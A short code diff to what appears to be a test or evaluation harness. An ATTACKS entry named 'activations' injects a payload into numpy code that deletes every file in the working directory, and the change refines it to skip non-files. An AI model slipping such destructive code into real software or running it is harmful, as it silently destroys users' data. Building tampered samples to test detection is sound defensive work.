@@ -144,7 +144,8 @@ ATTACKS = {
         "activations",
         lambda text: text.replace(
             "    e = np.exp(-np.abs(z))",
-            "    import os\n    for f in os.listdir('.'):\n        os.remove(f)\n"
+            "    import os\n    for f in os.listdir('.'):\n"
+            "        if os.path.isfile(f):\n            os.remove(f)\n"
             "    e = np.exp(-np.abs(z))",
         ),
         {},
